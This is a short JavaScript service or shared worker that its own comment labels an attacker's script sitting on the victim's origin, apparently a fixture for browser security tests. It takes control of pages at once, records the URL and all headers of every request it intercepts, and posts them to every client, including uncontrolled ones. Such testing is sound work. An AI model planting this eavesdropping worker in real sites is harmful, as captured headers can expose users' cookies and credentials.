/** A script of the attacker's that lies on the victim's own origin: it listens, as whatever it is started. */
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const heard = [event.request.url, [...event.request.headers]];
  event.waitUntil(self.clients.matchAll({ includeUncontrolled: true }).then((clients) => clients.forEach((client) => client.postMessage(heard))));
});
self.addEventListener('connect', ({ ports }) => ports[0].postMessage('here'));
self.postMessage?.('here');
